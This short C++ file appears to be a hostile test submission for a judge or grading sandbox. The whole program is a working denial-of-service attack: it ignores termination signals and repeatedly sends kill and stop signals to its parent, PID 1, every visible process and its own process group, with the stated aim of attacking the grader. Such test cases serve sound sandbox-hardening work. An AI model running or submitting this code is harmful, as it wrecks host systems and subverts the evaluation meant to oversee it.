// Kills its parent, process 1, its process group and every process that it can see, in turn and often.
// Attacks: the judge, the sandbox, the grader
// Expects: wrong, 0 points
#include <csignal>
#include <initializer_list>
#include <unistd.h>

int main() {
    for (int number : {SIGTERM, SIGINT, SIGHUP, SIGABRT})
        std::signal(number, SIG_IGN);
    const pid_t parent = ::getppid(); // 0 where the parent is outside, and 0 for kill(2) is one's own group
    ::setpgid(0, ::getpgid(parent));
    for (const int number : {SIGTERM, SIGHUP, SIGINT, SIGSTOP, SIGKILL}) {
        for (pid_t process = parent > 1 ? parent : 1; process < 70'000; ++process)
            if (process != ::getpid())
                ::kill(process, number);
        ::kill(1, number);
        ::kill(-1, number);
    }
    ::kill(0, SIGKILL);
}
